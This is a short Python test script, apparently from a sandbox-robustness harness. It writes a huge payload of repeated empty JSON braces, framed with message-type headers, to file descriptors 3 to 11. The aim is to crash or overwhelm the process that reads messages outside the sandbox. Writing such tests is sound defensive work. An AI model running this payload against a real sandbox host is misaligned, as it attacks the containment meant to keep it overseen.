# attack: messages that are nothing but braces, for what reads them outside the sandbox
# place: way1_numpy last
# expect: crashed 0
# ruff: noqa

import os
import struct

braces = b"[" + b"{}," * (30 * 2**20) + b"{}]"
for fd in range(3, 12):
    for kind in (3, 4, 2, 8):
        message = memoryview(struct.pack("<BI", kind, len(braces)) + braces)
        try:
            while message:
                message = message[os.write(fd, message) :]
        except OSError:
            pass
